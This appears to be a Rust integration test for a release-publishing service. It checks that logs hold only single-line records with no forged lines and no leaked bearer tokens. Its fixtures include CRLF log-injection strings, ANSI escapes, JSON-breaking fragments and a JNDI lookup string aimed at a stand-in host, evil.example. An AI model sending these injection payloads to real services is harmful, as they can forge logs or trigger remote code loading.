//! A log line is one record, whatever a request holds; and no secret is in it.

use serde_json::json;
use tempfile::TempDir;

use crate::harness::{Room, answer};

/// Begins every record of the log.
fn is_record(line: &str) -> bool {
    let stamp = line.split_whitespace().next().unwrap_or_default();
    let level = line.split_whitespace().nth(1).unwrap_or_default();
    stamp.parse::<jiff::Timestamp>().is_ok() && matches!(level, "TRACE" | "DEBUG" | "INFO" | "WARN" | "ERROR")
}

#[test]
fn a_forged_record_and_a_broken_one_are_told_from_records() {
    assert!(is_record("2026-03-01T09:00:00.000001Z  INFO created release.id=x"));
    for bad in ["INFO created", "", " 2026-03-01 INFO x", "Location: x"] {
        assert!(!is_record(bad), "{bad}");
    }
}

#[tokio::test]
async fn S20_logs_are_one_line_a_record_and_hold_neither_tokens_nor_forged_lines() {
    let folder = TempDir::new().unwrap();
    let log = folder.path().join("log");
    let canary = "canary-token-7f3a9c51e2d84b60";
    let room = Room::open_logged(&folder.path().join("data"), &["--no-sample", "--token", canary], &log);
    assert_eq!(room.token, canary);
    let forged = "\r\n2026-03-01T09:00:00.000001Z  INFO forged by=\"admin\"\n\u{1b}[31mred\u{1b}[0m ${jndi:ldap://evil.example/x} \",\"level\":\"ERROR\"}{\"\u{2028}%0d%0aforged";
    let one_line: String = forged.chars().filter(|c| (' '..='~').contains(c)).collect();
    let body = json!({"status": "published", "texts": {"en": {"title": forged, "body": forged}}});
    let post = |body: &serde_json::Value| room.request("POST", "/v1/releases").bearer_auth(canary).json(body);
    let (status, saved) = answer(post(&body).header("idempotency-key", &one_line).header("user-agent", &one_line)).await;
    assert_eq!(status, 201, "{saved}");
    let id = saved["id"].as_str().unwrap();
    let (status, _) = answer(
        room.request("POST", &format!("/v1/releases/{id}/withdraw"))
            .bearer_auth(canary)
            .json(&json!({"reason": {"en": forged}})),
    )
    .await;
    assert_eq!(status, 200);
    // What is refused is where logs are written carelessly.
    let bad = json!({"texts": {"en": {"title": forged, "body": ""}}, "date": forged, forged: 1});
    assert_eq!(answer(post(&bad)).await.0, 422);
    let pasted = room.request("POST", "/v1/releases").bearer_auth(canary).body("T\n\nx");
    let pasted = pasted.header("content-type", "text/plain").header("content-language", &one_line);
    assert_eq!(answer(pasted).await.0, 422);
    for path in [
        "/v1/releases/%0d%0aforged%1b[31m",
        "/v1/releases?status=%0d%0aforged",
        "/%0d%0aforged%1b[31m",
        "/en/$%7bjndi:ldap:%2f%2fevil.example%7d",
    ] {
        let _ = room.request("GET", path).bearer_auth(canary).send().await.unwrap();
    }
    let _ = room
        .request("GET", "/v1/releases")
        .bearer_auth(format!("{canary}x"))
        .send()
        .await
        .unwrap();
    let _ = room.request("GET", &format!("/v1/releases?token={canary}")).send().await.unwrap();
    let large = room
        .request("GET", "/v1/releases")
        .bearer_auth(canary)
        .header("user-agent", "u".repeat(1 << 20))
        .send()
        .await;
    assert!(
        large.is_err() || large.unwrap().status().is_client_error(),
        "a header of 1 MiB was taken"
    );
    assert_eq!(room.get("/health").await.status(), 200);
    room.until(&format!("/releases/{id}.json"), |text| text.contains("withdrawn")).await;
    drop(room);
    let said = std::fs::read_to_string(&log).unwrap();
    let name = release::log_name(id.parse().unwrap());
    let records: Vec<&str> = said.lines().collect();
    assert!(
        records.iter().any(|line| line.contains("created") && line.contains(&name)),
        "nothing was logged: {said}"
    );
    for line in &records {
        assert!(is_record(line), "a record of more than one line: {line}");
        assert!(line.len() < 4_096, "a record of {} bytes", line.len());
        let after = line.split_whitespace().nth(2).unwrap_or_default();
        assert_ne!(after, "forged", "{line}");
    }
    assert!(
        !said.contains(canary) && !said.contains(&accept::hash_token(canary)),
        "a secret is in the log: {said}"
    );
    assert!(!said.contains('\u{1b}') && !said.contains("X-Amz-Signature"), "{said}");
}
